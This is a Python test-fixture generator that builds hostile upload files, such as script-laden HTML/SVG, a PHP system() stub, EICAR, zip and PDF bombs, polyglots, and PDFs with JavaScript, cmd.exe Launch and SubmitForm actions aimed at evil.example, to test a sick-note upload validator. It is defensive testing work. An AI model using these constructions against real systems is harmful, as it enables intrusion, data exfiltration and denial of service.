"""Files that somebody hands in as a sick note and that are none, or more than one: made by code, two hundred and more.

Each carries `PAYLOAD` wherever it hides something. `REFUSED` must not be taken; `CLEANED` may be, and then nothing of
the payload is in what comes out.
"""

import base64
import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import cache
from typing import Literal, NamedTuple

from PIL import Image, ImageCms, PngImagePlugin
from pypdf import PdfReader, PdfWriter

from cloud.tests.planning.plain_files import jpeg, pdf, picture, png, saved, webp

PAYLOAD = b"STW-PAYLOAD-7f3a91c2"
HTML = b"<html><script>alert('" + PAYLOAD + b"')</script></html>"
PHP = b"<?php system('" + PAYLOAD + b"'); ?>"
TEN_MB = 10 * 1024 * 1024

Fate = Literal["REFUSED", "CLEANED"]


class Hostile(NamedTuple):
    name: str
    content: bytes
    fate: Fate


@cache
def all_files() -> tuple[Hostile, ...]:
    makers: tuple[Callable[[], Iterator[Hostile]], ...] = (
        _no_images,
        _sizes,
        _tails,
        _jpegs,
        _pngs,
        _webps,
        _truncated,
        _pdf_actions,
        _pdf_hidden,
        _pdf_polyglots,
        _pdf_bombs,
        _pdf_broken,
        _pdf_images,
    )
    return tuple(one for make in makers for one in make())


# --- what is no image and no PDF ------------------------------------------------------------------------------------


def _no_images() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>' + PAYLOAD + b"</script></svg>"
    others = {
        "html": HTML,
        "html with doctype": b"<!doctype html>" + HTML,
        "xhtml": b'<?xml version="1.0"?>' + HTML,
        "svg": svg,
        "svg with declaration": b'<?xml version="1.0"?>' + svg,
        "svgz": gzip.compress(svg),
        "script": b"alert(1)//" + PAYLOAD,
        "php": PHP,
        "shell": b"#!/bin/sh\n" + PAYLOAD,
        "zip": _zip(),
        "zip bomb": _zip(b"\0" * 5_000_000),
        "nested zip bomb": _zip(_zip(b"\0" * 2_000_000)),
        "jar": _zip(name="META-INF/MANIFEST.MF"),
        "docx": _zip(name="word/document.xml"),
        "docm": _zip(name="word/vbaProject.bin"),
        "gzip bomb": gzip.compress(b"\0" * 5_000_000),
        "rtf": b"{\\rtf1 " + PAYLOAD + b"}",
        "exe": b"MZ" + b"\0" * 100 + PAYLOAD,
        "elf": b"\x7fELF" + b"\0" * 100 + PAYLOAD,
        "class": b"\xca\xfe\xba\xbe" + PAYLOAD,
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + PAYLOAD,
        "eicar": base64.b64decode(
            "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
        ),
        "gif": saved(picture("P"), "GIF"),
        "gifar": saved(picture("P"), "GIF") + _zip(),
        "gif with script": b"GIF89a/*" + b"\0" * 50 + b"*/=1;" + PAYLOAD,
        "bmp": saved(picture(), "BMP"),
        "tiff": saved(picture(), "TIFF"),
        "tiff big endian": b"MM\0*" + PAYLOAD,
        "ico": saved(picture(), "ICO"),
        "jpeg 2000": saved(picture(), "JPEG2000"),
        "avif": b"\0\0\0\x1cftypavif" + PAYLOAD,
        "heic": b"\0\0\0\x18ftypheic" + PAYLOAD,
        "jpeg xl": b"\xff\x0a" + PAYLOAD,
        "psd": b"8BPS\0\x01" + PAYLOAD,
        "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n" + PAYLOAD,
        "postscript": b"%!PS\n(" + PAYLOAD + b") print",
        "wmf": b"\xd7\xcd\xc6\x9a" + PAYLOAD,
        "avi": b"RIFF\x10\0\0\0AVI " + PAYLOAD,
        "wav": b"RIFF\x10\0\0\0WAVE" + PAYLOAD,
        "mp4": b"\0\0\0\x18ftypmp42" + PAYLOAD,
        "mng": b"\x8aMNG\r\n\x1a\n" + PAYLOAD,
        "text": b"Ich bin krank. " + PAYLOAD,
        "utf-16": "Ich bin krank.".encode("utf-16"),
        "zeros": b"\0" * 1000,
        "one byte": b"\xff",
        "a name": b"../../../../etc/passwd\0.jpg",
        "data address": b"data:image/png;base64," + base64.b64encode(png()),
        "base64": base64.b64encode(jpeg()),
        "jpeg behind a space": b" " + jpeg(),
        "png behind a byte order mark": b"\xef\xbb\xbf" + png(),
        "png whose line ends were changed": png().replace(b"\r\n", b"\n", 1),
        "html before jpeg": HTML + jpeg(),
        "zip before jpeg": _zip() + jpeg(),
        "pdf at 1024": b"A" * 1024 + pdf(),
        "jpeg magic alone": b"\xff\xd8\xff",
        "jpeg magic with html": b"\xff\xd8\xff\xe0" + HTML,
        "jpeg magic with php": b"\xff\xd8\xff\xe0\0\x10JFIF\0" + PHP,
        "png magic alone": b"\x89PNG\r\n\x1a\n",
        "png magic with html": b"\x89PNG\r\n\x1a\n" + HTML,
        "webp magic alone": b"RIFF\0\0\0\0WEBP",
        "webp magic with html": b"RIFF\xff\xff\xff\xffWEBPVP8 " + HTML,
        "pdf magic alone": b"%PDF-",
        "pdf magic with html": b"%PDF-1.7\n" + HTML,
        "pdf magic with zip": b"%PDF-1.7\n" + _zip(),
        "fdf": b"%FDF-1.2\n" + PAYLOAD,
    }
    yield from (Hostile(name, content, "REFUSED") for name, content in others.items())


def _sizes() -> Iterator[Hostile]:
    yield Hostile("empty", b"", "REFUSED")
    for name, content in {"jpeg": jpeg(), "png": png(), "pdf": pdf(), "zeros": b""}.items():
        yield Hostile(f"{name} of 10 MB and a byte", content + b"\0" * (TEN_MB + 1 - len(content)), "REFUSED")
    yield Hostile("jpeg of 10 MB", jpeg() + b"\0" * (TEN_MB - len(jpeg())), "CLEANED")


def _tails() -> Iterator[Hostile]:
    """Two files in one: something stands behind the end."""
    tails = {
        "zip": _zip(),
        "html": HTML,
        "php": PHP,
        "pdf": pdf() + PAYLOAD,
        "jpeg": jpeg() + PAYLOAD,
        "words": PAYLOAD,
    }
    for kind, content in {"jpeg": jpeg(), "png": png(), "webp": webp(), "pdf": pdf()}.items():
        for name, tail in tails.items():
            if (kind, name) != ("pdf", "pdf"):  # the last document of two is what every reader shows
                yield Hostile(f"{kind} before {name}", content + tail, "CLEANED")


# --- images ---------------------------------------------------------------------------------------------------------


def _jpegs() -> Iterator[Hostile]:
    plain = jpeg()
    for number in range(16):
        yield Hostile(f"jpeg with application data {number}", _segment(plain, 0xE0 + number, PAYLOAD), "CLEANED")
    yield Hostile("jpeg with a comment", _segment(plain, 0xFE, PHP), "CLEANED")
    yield Hostile("jpeg with a script as comment", _segment(plain, 0xFE, b"*/=1;" + HTML), "CLEANED")
    yield Hostile("jpeg with xmp", _segment(plain, 0xE1, b"http://ns.adobe.com/xap/1.0/\0" + PAYLOAD), "CLEANED")
    yield Hostile("jpeg with iptc", _segment(plain, 0xED, b"Photoshop 3.0\x008BIM" + PAYLOAD), "CLEANED")
    yield Hostile("jpeg with flashpix", _segment(plain, 0xE2, b"FPXR\0" + PAYLOAD), "CLEANED")
    yield Hostile("jpeg with gps", saved(picture(), "JPEG", exif=_exif()), "CLEANED")
    yield Hostile("jpeg with a profile", saved(picture(), "JPEG", icc_profile=_profile()), "CLEANED")
    yield Hostile("jpeg with a broken profile", saved(picture(), "JPEG", icc_profile=PAYLOAD), "CLEANED")
    yield Hostile("jpeg with broken exif", _segment(plain, 0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + PAYLOAD), "CLEANED")
    for orientation in (0, 2, 6, 9, 65535):
        exif = Image.Exif()
        exif[0x0112] = orientation
        exif[0x010E] = PAYLOAD.decode()
        yield Hostile(f"jpeg held as {orientation}", saved(picture(), "JPEG", exif=exif), "CLEANED")
    yield Hostile("cmyk jpeg", saved(picture("CMYK"), "JPEG", comment=PAYLOAD), "CLEANED")
    yield Hostile("grey jpeg", saved(picture("L"), "JPEG", comment=PAYLOAD), "CLEANED")
    yield Hostile("progressive jpeg", saved(picture(), "JPEG", progressive=True, comment=PAYLOAD), "CLEANED")
    second = picture().rotate(90)
    yield Hostile("two pictures in a jpeg", saved(picture(), "MPO", save_all=True, append_images=[second]), "CLEANED")
    for width, height in ((65500, 65500), (40000, 1), (8000, 5001), (0, 40), (60, 0)):
        yield Hostile(f"jpeg that says {width} x {height}", _jpeg_of(width, height), "REFUSED")
    yield Hostile("jpeg without tables", plain[:2] + plain[-200:], "REFUSED")
    yield Hostile("jpeg with a segment that is too long", plain[:2] + b"\xff\xe1\xff\xff" + PAYLOAD, "REFUSED")
    yield Hostile("jpeg of 300 frames of markers", b"\xff\xd8" + b"\xff\xd8" * 300 + b"\xff\xd9", "REFUSED")


def _pngs() -> Iterator[Hostile]:
    plain = png()
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", PAYLOAD.decode())
    info.add_itxt("XML:com.adobe.xmp", PAYLOAD.decode())
    yield Hostile("png with words", saved(picture(), "PNG", pnginfo=info), "CLEANED")
    for chunk in (b"tEXt", b"zTXt", b"eXIf", b"prVt", b"vpAg", b"caNv", b"orNT", b"tIME", b"sPLT", b"hIST"):
        yield Hostile(f"png with a chunk {chunk.decode()}", _with_chunk(plain, chunk, b"k\0" + PAYLOAD), "CLEANED")
    yield Hostile("png with a chunk that must be known", _with_chunk(plain, b"PRVT", PAYLOAD), "CLEANED")
    yield Hostile("png with gps", saved(picture(), "PNG", exif=_exif()), "CLEANED")
    yield Hostile("png with a profile", saved(picture(), "PNG", icc_profile=_profile()), "CLEANED")
    bomb = zlib.compress(b"\0" * 20_000_000)
    yield Hostile("png with a bomb of words", _with_chunk(plain, b"zTXt", b"k\0\0" + bomb), "CLEANED")
    yield Hostile(
        "png with a bomb of words in unicode", _with_chunk(plain, b"iTXt", b"k\0\x01\0\0\0" + bomb), "CLEANED"
    )
    yield Hostile("png with a bomb as profile", _with_chunk(plain, b"iCCP", b"k\0\0" + bomb), "CLEANED")
    yield Hostile("png with a thousand words", _with_chunks(plain, [(b"tEXt", b"k\0" + PAYLOAD)] * 1000), "CLEANED")
    frames = [picture().rotate(angle) for angle in (0, 90, 180)]
    yield Hostile("animated png", saved(frames[0], "PNG", save_all=True, append_images=frames[1:]), "CLEANED")
    for mode in ("1", "L", "LA", "P", "RGBA", "I;16"):
        image = picture("L").convert("I;16") if mode == "I;16" else picture(mode)
        note = PngImagePlugin.PngInfo()
        note.add_text("k", PAYLOAD.decode())
        yield Hostile(f"png of mode {mode}", saved(image, "PNG", pnginfo=note), "CLEANED")
    yield Hostile("png without what shows through", saved(picture("P"), "PNG", transparency=0), "CLEANED")
    for width, height, depth, colour in (
        (30_000, 30_000, 1, 0),
        (100_000, 100_000, 8, 6),
        (2**31 - 1, 2**31 - 1, 8, 2),
        (16_001, 1, 8, 0),
        (1, 40_000, 8, 0),
        (8_000, 5_001, 1, 0),
        (0, 10, 8, 0),
        (10, 0, 8, 0),
    ):
        yield Hostile(f"png of {width} x {height}", _png_of(width, height, depth, colour), "REFUSED")
    yield Hostile("png with too few pixels", _png_of(4000, 4000, 8, 2, b""), "REFUSED")
    yield Hostile("png with pixels that are none", _png_of(100, 100, 8, 2, PAYLOAD, squeeze=False), "REFUSED")
    yield Hostile("png with an unknown colour", _png_of(100, 100, 3, 7), "REFUSED")
    yield Hostile("png with a wrong checksum", plain[:29] + b"\0\0\0\0" + plain[33:], "REFUSED")
    yield Hostile("png without an end", plain[:-12], "CLEANED")
    yield Hostile("png with more pixels than it says", _png_of(10, 10, 8, 0, b"\0" * 40_000_000), "CLEANED")


def _webps() -> Iterator[Hostile]:
    yield Hostile("webp with gps", saved(picture(), "WEBP", exif=_exif()), "CLEANED")
    yield Hostile("webp with xmp", saved(picture(), "WEBP", xmp=PAYLOAD), "CLEANED")
    yield Hostile("webp with a profile", saved(picture(), "WEBP", icc_profile=_profile()), "CLEANED")
    yield Hostile("webp without loss", saved(picture("RGBA"), "WEBP", lossless=True, xmp=PAYLOAD), "CLEANED")
    frames = [picture().rotate(angle) for angle in (0, 90, 180)]
    yield Hostile("animated webp", saved(frames[0], "WEBP", save_all=True, append_images=frames[1:]), "CLEANED")
    plain = webp()
    yield Hostile("webp with a chunk of its own", _riff(plain[12:] + b"EVIL" + _sized(PAYLOAD)), "CLEANED")
    large = b"VP8X" + _sized(b"\0\0\0\0" + (16_383).to_bytes(3, "little") * 2)
    yield Hostile("webp that says 16384 x 16384", _riff(large + plain[12:]), "REFUSED")
    yield Hostile("webp with a size that is a lie", b"RIFF" + b"\xff\xff\xff\x7f" + plain[8:], "REFUSED")
    yield Hostile("webp with pixels that are none", _riff(b"VP8 " + _sized(PAYLOAD * 20)), "REFUSED")


def _truncated() -> Iterator[Hostile]:
    # The end of a PNG says nothing that is missed.
    for kind, content in {"jpeg": jpeg(), "png": png()[:-16], "webp": webp()}.items():
        for percent in (5, 20, 40, 60, 80, 90):
            yield Hostile(f"{kind} cut at {percent} %", content[: len(content) * percent // 100], "REFUSED")
    for percent in (5, 20, 40, 60, 80, 95):
        yield Hostile(f"pdf cut at {percent} %", pdf()[: len(pdf()) * percent // 100], "REFUSED")


# --- documents ------------------------------------------------------------------------------------------------------

JS = b"<< /S /JavaScript /JS (app.alert\\('" + PAYLOAD + b"'\\)) >>"


def document(
    *,
    catalog: bytes = b"",
    page: bytes = b"",
    contents: bytes = b"",
    resources: bytes = b"",
    more: dict[int, bytes] | None = None,
    trailer: bytes = b"",
    version: bytes = b"1.7",
    gap: bytes = b"",
) -> bytes:
    """A document of one page; `catalog`, `page`, `resources` and `trailer` are added to those dictionaries."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 300] /Contents 4 0 R /Resources << "
        + resources
        + b" >> "
        + page
        + b" >>",
        4: stream(contents or b"0 0 10 10 re f"),
        **(more or {}),
    }
    return _assembled(objects, trailer, version, gap)


def stream(content: bytes, members: bytes = b"", length: int | None = None) -> bytes:
    size = len(content) if length is None else length
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (size, members, content)


def _assembled(objects: dict[int, bytes], trailer: bytes = b"", version: bytes = b"1.7", gap: bytes = b"") -> bytes:
    out, places = b"%PDF-" + version + b"\n", {}
    for number, body in sorted(objects.items()):
        out += gap
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    lines = [b"%010d 00000 n " % places[n] if n in places else b"0000000000 65535 f " for n in range(size)]
    out += b"xref\n0 %d\n%s\n" % (size, b"\n".join(lines))
    return out + b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, start)


def _updated(content: bytes, changed: dict[int, bytes]) -> bytes:
    """The document with a later revision of some of its objects."""
    previous = int(content.rsplit(b"startxref\n", 1)[1].split()[0])
    out, lines = content, []
    for number, body in changed.items():
        lines.append(b"%d 1\n%010d 00000 n " % (number, len(out)))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n" + b"\n".join(lines) + b"\n"
    return out + b"trailer\n<< /Size 9 /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (previous, start)


def _annotation(members: bytes) -> bytes:
    return b"/Annots [<< /Type /Annot /Rect [0 0 50 50] " + members + b" >>]"


def _pdf_actions() -> Iterator[Hostile]:
    """Whatever does something, in every place where a reader looks for it."""
    file = b"<< /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >>"
    embedded = {8: stream(b"MZ" + PAYLOAD, b"/Type /EmbeddedFile")}
    actions = {
        "javascript": JS,
        "launch": b"<< /S /Launch /F (cmd.exe) /P (" + PAYLOAD + b") >>",
        "launch with parameters": b"<< /S /Launch /Win << /F (cmd.exe) /P (" + PAYLOAD + b") >> >>",
        "submit": b"<< /S /SubmitForm /F (https://evil.example/" + PAYLOAD + b") >>",
        "import": b"<< /S /ImportData /F (" + PAYLOAD + b") >>",
        "elsewhere": b"<< /S /GoToR /F (//evil.example/" + PAYLOAD + b") /D [0 /Fit] >>",
        "into an attachment": b"<< /S /GoToE /T << /R /C /N (" + PAYLOAD + b") >> >>",
        "rendition": b"<< /S /Rendition /OP 0 /JS (" + PAYLOAD + b") >>",
        "movie": b"<< /S /Movie /T (" + PAYLOAD + b") >>",
        "sound": b"<< /S /Sound /Sound 8 0 R >>",
        "hide": b"<< /S /Hide /T (" + PAYLOAD + b") >>",
        "reset": b"<< /S /ResetForm >>",
        "layers": b"<< /S /SetOCGState /State [/ON 8 0 R] >>",
        "rich media": b"<< /S /RichMediaExecute >>",
        "chained": b"<< /S /GoTo /D [3 0 R /Fit] /Next " + JS + b" >>",
        "chained twice": b"<< /S /Named /N /NextPage /Next [<< /S /URI /URI (x) /Next " + JS + b" >>] >>",
        "javascript with escapes": b"<< /S /J#61vaScr#69pt /#4A#53 (" + PAYLOAD + b") >>",
        "javascript in hexadecimal": b"<< /S /JavaScript /JS <" + PAYLOAD.hex().encode() + b"> >>",
        "javascript in a stream": b"<< /S /JavaScript /JS 8 0 R >>",
    }
    for name, action in actions.items():
        more = {8: stream(PAYLOAD)}
        yield Hostile(f"pdf that opens with {name}", document(catalog=b"/OpenAction " + action, more=more), "CLEANED")
        link = _annotation(b"/Subtype /Link /A " + action)
        yield Hostile(f"pdf with a link to {name}", document(page=link, more=more), "CLEANED")
    places = {
        "a referenced opening": {"catalog": b"/OpenAction 8 0 R", "more": {8: JS}},
        "the catalog's events": {"catalog": b"/AA << /WC " + JS + b" >>"},
        "the names": {"catalog": b"/Names << /JavaScript << /Names [(a) " + JS + b"] >> >>"},
        "the page's events": {"page": b"/AA << /O " + JS + b" >>"},
        "the events of a mark": {"page": _annotation(b"/Subtype /Widget /AA << /E " + JS + b" >>")},
        "the activation of a field": {"page": _annotation(b"/Subtype /Widget /FT /Btn /A " + JS)},
        "the fields": {"catalog": b"/AcroForm << /Fields [<< /T (a) /AA << /K " + JS + b" >> >>] >>"},
        "the order of calculation": {
            "catalog": b"/AcroForm << /CO [8 0 R] >>",
            "more": {8: b"<< /AA << /C " + JS + b" >> >>"},
        },
        "the outline": {"catalog": b"/Outlines << /First << /Title (a) /A " + JS + b" >> >>"},
        "the screen of a mark": {"page": _annotation(b"/Subtype /Screen /A " + JS)},
        "a tree of names": {"catalog": b"/Names << /Dests << /Kids [<< /Names [(a) << /JS (b) >>] >>] >> >>"},
        "what it is about": {"trailer": b"/Info << /Title << /JS (" + PAYLOAD + b") >> >>"},
        "a font": {"resources": b"/Font << /F1 << /Type /Font /AA " + JS + b" >> >>"},
        "the structure": {"catalog": b"/StructTreeRoot << /K << /S /P /A << /JS (a) >> >> >>"},
    }
    for name, parts in places.items():
        yield Hostile(f"pdf with a script in {name}", document(**parts), "CLEANED")  # type: ignore[arg-type]
    attachments = {
        "names": {"catalog": b"/Names << /EmbeddedFiles << /Names [(a) " + file + b"] >> >>"},
        "a mark": {"page": _annotation(b"/Subtype /FileAttachment /FS " + file)},
        "the catalog": {"catalog": b"/AF [" + file + b"]"},
        "a portfolio": {"catalog": b"/Collection << /View /D >>"},
        "the page": {"page": b"/AF [" + file + b"]"},
        "rich media": {"page": _annotation(b"/Subtype /RichMedia /RichMediaContent << /Assets 8 0 R >>")},
        "three dimensions": {"page": _annotation(b"/Subtype /3D /3DD 8 0 R")},
        "a movie": {"page": _annotation(b"/Subtype /Movie /Movie << /F (" + PAYLOAD + b") >>")},
        "a sound": {"page": _annotation(b"/Subtype /Sound /Sound 8 0 R")},
        "a form of another kind": {"catalog": b"/AcroForm << /XFA 8 0 R >>"},
        "parts of such a form": {"catalog": b"/AcroForm << /XFA [(template) 8 0 R] >>"},
        "a stream elsewhere": {
            "resources": b"/XObject << /X 9 0 R >>",
            "more": {9: stream(b"", b"/F (//evil.example/a)")},
        },
        "a page elsewhere": {
            "resources": b"/XObject << /X 9 0 R >>",
            "more": {9: stream(b"", b"/Subtype /Form /Ref << /F " + file + b" /Page 0 >>")},
        },
    }
    for name, parts in attachments.items():
        more = embedded | parts.pop("more", {})  # type: ignore[operator]
        yield Hostile(f"pdf with a file in {name}", document(more=more, **parts), "CLEANED")  # type: ignore[arg-type]
    postscript = {8: stream(PAYLOAD, b"/Type /XObject /Subtype /PS")}
    yield Hostile("pdf with postscript", document(resources=b"/XObject << /X 8 0 R >>", more=postscript), "CLEANED")
    yield Hostile(
        "pdf whose later revision has a script",
        _updated(pdf_of_one(), {1: _CATALOG + b"/OpenAction " + JS + b" >>"}),
        "CLEANED",
    )
    yield Hostile(
        "pdf with a script in a packed object",
        _packed(b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + JS + b" >>"),
        "CLEANED",
    )
    for algorithm in ("RC4-40", "RC4-128", "AES-128", "AES-256"):
        yield Hostile(f"pdf that may not be changed by {algorithm}", encrypted(algorithm, ""), "CLEANED")
        yield Hostile(f"pdf encrypted by {algorithm}", encrypted(algorithm, "geheim"), "REFUSED")


_CATALOG = b"<< /Type /Catalog /Pages 2 0 R "


def pdf_of_one() -> bytes:
    return document()


def _pdf_hidden() -> Iterator[Hostile]:
    """What does nothing, and yet should not be handed on."""
    said = b"(" + PAYLOAD + b")"
    uri = b"<< /S /URI /URI (https://evil.example/" + PAYLOAD + b") >>"
    hidden = {
        "words about it": document(trailer=b"/Info << /Title " + said + b" /Author " + said + b" >>"),
        "an id": document(trailer=b"/ID [" + said + said + b"]"),
        "a trailer of its own": document(trailer=b"/Evil " + said),
        "metadata": document(catalog=b"/Metadata 8 0 R", more={8: stream(PAYLOAD, b"/Type /Metadata /Subtype /XML")}),
        "metadata of the page": document(page=b"/Metadata 8 0 R", more={8: stream(PAYLOAD)}),
        "pieces": document(page=b"/PieceInfo << /Evil << /Private " + said + b" >> >>"),
        "a small picture": document(page=b"/Thumb 8 0 R", more={8: stream(PAYLOAD)}),
        "a member of the page": document(page=b"/Evil " + said),
        "a member of the catalog": document(catalog=b"/Evil " + said),
        "a member of a font": document(resources=b"/Font << /F1 << /Type /Font /Evil " + said + b" >> >>"),
        "a string in a font": document(resources=b"/Font << /F1 << /Type /Font /BaseFont " + said + b" >> >>"),
        "resources of its own": document(resources=b"/Evil " + said),
        "properties": document(resources=b"/Properties << /P << /Evil " + said + b" >> >>"),
        "an orphan": document(more={8: b"<< /OpenAction " + JS + b" >>"}),
        "an orphaned file": document(more={8: stream(PAYLOAD, b"/Type /EmbeddedFile")}),
        "comments": document(gap=b"% " + PAYLOAD + b"\n"),
        "space between objects": document(gap=b"\n" + PAYLOAD + b"\n"),
        "a link to an address": document(page=_annotation(b"/Subtype /Link /A " + uri)),
        "an outline of addresses": document(
            catalog=b"/Outlines << /First << /Title " + said + b" /A " + uri + b" >> >>"
        ),
        "an address of the catalog": document(catalog=b"/URI << /Base " + said + b" >>"),
        "a page to open at": document(
            catalog=b"/OpenAction [3 0 R /Fit] /PageLabels << /Nums [0 << /P " + said + b" >>] >>"
        ),
        "an action that goes to a page": document(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>", page=b"/Evil " + said
        ),
        "a note": document(page=_annotation(b"/Subtype /Text /Contents " + said)),
        "a popup": document(page=_annotation(b"/Subtype /Popup /Contents " + said)),
        "a hidden stamp": document(
            page=_annotation(b"/Subtype /Stamp /F 2 /AP << /N 8 0 R >>"), more={8: stream(PAYLOAD, b"/BBox [0 0 1 1]")}
        ),
        "a signature": document(catalog=b"/AcroForm << /Fields [<< /FT /Sig /V << /Contents " + said + b" >> >>] >>"),
        "permissions": document(catalog=b"/Perms << /DocMDP << /Reference [] /Name " + said + b" >> >>"),
        "a layer": document(
            catalog=b"/OCProperties << /OCGs [8 0 R] >>", more={8: b"<< /Type /OCG /Name " + said + b" >>"}
        ),
        "structure": document(catalog=b"/StructTreeRoot << /K << /S /P /Alt " + said + b" >> >>"),
        "a thread": document(catalog=b"/Threads [<< /I << /Title " + said + b" >> >>]"),
        "a language": document(catalog=b"/Lang " + said),
        "an intent of output": document(
            catalog=b"/OutputIntents [<< /Info " + said + b" /DestOutputProfile 8 0 R >>]",
            more={8: stream(PAYLOAD, b"/N 3")},
        ),
        "an earlier revision": _updated(document(catalog=b"/OpenAction " + JS), {1: _CATALOG + b" >>"}),
        "a packed object": _packed(_CATALOG + b"/Evil " + said + b" >>"),
        "a version that there is not": document(version=b"9.9" + PAYLOAD),
    }
    yield from (Hostile(f"pdf with {name}", content, "CLEANED") for name, content in hidden.items())


def _pdf_polyglots() -> Iterator[Hostile]:
    whole = pdf_of_one()
    for name, head in {
        "a gif's head": b"GIF89a",
        "php": PHP,
        "html": HTML + b"\n",
        "a line": b"\r\n",
        "a byte order mark": b"\xef\xbb\xbf",
        "1023 bytes": PAYLOAD + b"A" * (1023 - len(PAYLOAD)),
    }.items():
        yield Hostile(f"pdf behind {name}", head + whole, "CLEANED")
    yield Hostile("pdf with html in its head", whole.replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + HTML + b"\n", 1), "CLEANED")
    yield Hostile("pdf with php in its head", whole.replace(b"%PDF-1.7\n", b"%PDF-1.7 " + PHP + b"\n", 1), "CLEANED")
    yield Hostile("pdf in a zip's comment", document(more={8: stream(_zip())}) + _zip(), "CLEANED")
    yield Hostile("pdf with an image as a head", document(more={8: stream(jpeg() + PAYLOAD)}), "CLEANED")


def _pdf_bombs() -> Iterator[Hostile]:
    flate, page = b"/Filter /FlateDecode", b"0 0 1 1 re f\n"
    bomb = zlib.compress(page * 12_000_000, 1)
    yield Hostile("pdf with a bomb as page", document(more={4: stream(bomb, flate)}), "REFUSED")
    twice = zlib.compress(bomb, 9)
    yield Hostile(
        "pdf with a bomb in a bomb",
        document(more={4: stream(twice, b"/Filter [/FlateDecode /FlateDecode]")}),
        "REFUSED",
    )
    lines = stream(zlib.compress(b"\n" * 90_000_000, 1), flate)
    many = dict.fromkeys(range(10, 18), lines)
    contents = b"[" + b" ".join(b"%d 0 R" % number for number in many) + b"]"
    one_by_one = _assembled(
        {
            1: _CATALOG + b">>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /MediaBox [0 0 9 9] /Contents " + contents + b" >>",
            **many,
        }
    )
    yield Hostile("pdf with many small bombs", one_by_one, "REFUSED")
    same = b"[" + b"4 0 R " * 900 + b"]"
    repeated = _assembled(
        {
            1: _CATALOG + b">>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: b"<< /Type /Page /MediaBox [0 0 9 9] /Contents " + same + b" >>",
            4: stream(zlib.compress(b"\n" * 9_000_000, 1), flate),
        }
    )
    yield Hostile("pdf with one stream a thousand times", repeated, "REFUSED")
    yield Hostile(
        "pdf with runs", document(more={4: stream(b"\x81a" * 1_500_000, b"/Filter /RunLengthDecode")}), "CLEANED"
    )
    yield Hostile(
        "pdf with forty filters",
        document(more={4: stream(b">" * 100, b"/Filter [" + b"/ASCIIHexDecode " * 40 + b"]")}),
        "CLEANED",
    )
    yield Hostile("pdf with 21 pages", pdf(21), "REFUSED")
    kids = b"[" + b"3 0 R " * 100_000 + b"]"
    yield Hostile(
        "pdf with a page a hundred thousand times",
        document(more={2: b"<< /Type /Pages /Kids " + kids + b" /Count 1 >>"}),
        "CLEANED",
    )
    doubled = {10 + n: b"<< /Type /Pages /Kids [%d 0 R %d 0 R] >>" % (11 + n, 11 + n) for n in range(40)}
    yield Hostile(
        "pdf with a tree that doubles",
        document(more={2: b"<< /Type /Pages /Kids [10 0 R] >>", **doubled, 50: b"<< /Type /Page >>"}),
        "REFUSED",
    )
    yield Hostile(
        "pdf with a tree without an end", document(more={2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}), "REFUSED"
    )
    yield Hostile("pdf with arrays in arrays", document(page=b"/Evil " + b"[" * 20_000 + b"]" * 20_000), "CLEANED")
    yield Hostile(
        "pdf with dictionaries in dictionaries",
        document(page=b"/Evil " + b"<< /A " * 20_000 + PAYLOAD + b" >>" * 20_000),
        "CLEANED",
    )
    yield Hostile("pdf with a long array", document(page=b"/Evil [" + b"0 " * 200_000 + b"]"), "CLEANED")
    chain = {10 + n: b"<< /Type /Font /FontDescriptor %d 0 R >>" % (11 + n) for n in range(2000)}
    yield Hostile(
        "pdf with a chain of references",
        document(resources=b"/Font << /F 10 0 R >>", more={**chain, 2010: b"<< >>"}),
        "CLEANED",
    )
    nested = {
        10 + n: stream(b"/X Do", b"/Subtype /Form /Resources << /XObject << /X %d 0 R >> >>" % (11 + n))
        for n in range(300)
    }
    yield Hostile(
        "pdf with forms in forms",
        document(resources=b"/XObject << /X 10 0 R >>", more={**nested, 310: stream(b"")}),
        "CLEANED",
    )
    many_objects = {number: b"[%d 0 R]" % (number + 1) for number in range(10, 60_000)}
    yield Hostile(
        "pdf with sixty thousand objects",
        document(page=b"/Evil 10 0 R", more={**many_objects, 60_000: b"1"}),
        "CLEANED",
    )
    marks = b"/Annots [" + b"<< /Subtype /Stamp /Rect [0 0 1 1] >> " * 3000 + b"]"
    yield Hostile("pdf with three thousand marks", document(page=marks), "CLEANED")


def _pdf_broken() -> Iterator[Hostile]:
    whole = pdf_of_one()
    broken = {
        "no pages": document(more={2: b"<< /Type /Pages /Kids [] /Count 0 >>"}),
        "a page that is none": document(more={3: b"(" + PAYLOAD + b")"}),
        "pages that are none": document(more={2: b"42"}),
        "a catalog that is none": document(more={1: b"[1 2 3]"}),
        "no catalog": whole.replace(b"/Root 1 0 R", b"").replace(b"/Type /Catalog /Pages 2 0 R", b""),
    }
    yield from (Hostile(f"pdf with {name}", content, "REFUSED") for name, content in broken.items())
    mended = {
        "a name of 4 kB": document(resources=b"/Font << /" + b"A" * 4096 + b" << /Type /Font >> >>"),
        "a stream that is not what it says": document(more={4: stream(PAYLOAD, b"/Filter /CCITTFaxDecode")}),
